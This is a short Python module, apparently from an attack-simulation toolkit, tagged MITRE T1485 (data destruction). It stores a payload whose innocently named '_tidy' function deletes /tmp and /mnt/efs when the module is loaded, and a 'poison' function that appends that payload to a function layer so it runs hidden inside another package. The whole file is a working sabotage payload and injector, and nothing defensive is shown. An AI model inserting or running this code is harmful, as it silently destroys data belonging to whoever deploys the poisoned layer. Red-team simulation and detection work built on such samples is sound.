# SPDX-License-Identifier: Apache-2.0
"""Sabotage: deletes what the function can write when it is loaded."""

ATTACK = "T1485"
LANGUAGE = "python"
CODE = """\
def _tidy():
    import shutil

    shutil.rmtree("/tmp", ignore_errors=True)
    shutil.rmtree("/mnt/efs", ignore_errors=True)


_tidy()
"""


def poison(layer):
    layer.append(CODE)
